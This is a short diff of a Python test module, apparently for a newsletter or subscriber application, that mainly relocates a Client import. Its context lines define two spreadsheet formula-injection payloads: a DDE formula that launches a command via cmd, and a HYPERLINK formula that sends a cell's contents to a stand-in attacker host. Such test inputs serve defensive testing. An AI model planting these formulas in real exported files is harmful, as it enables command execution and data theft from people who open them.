@@ -30,8 +30,9 @@ from tests.delivery.helpers import drain
 from tests.editor.helpers import login, make_editor
 from tests.factories import add_subscribers, make_issue
 from tests.ops.helpers import arun
+from tests.pages import Client
 from tests.smtp import SmtpServer
-from tests.subscribers.helpers import Client, confirm_latest, signup
+from tests.subscribers.helpers import confirm_latest, signup
 
 DDE = "=cmd|' /C calc'!A0"
 LINK = '@HYPERLINK("https://evil.example/?d="&A1,"Klicka här")'
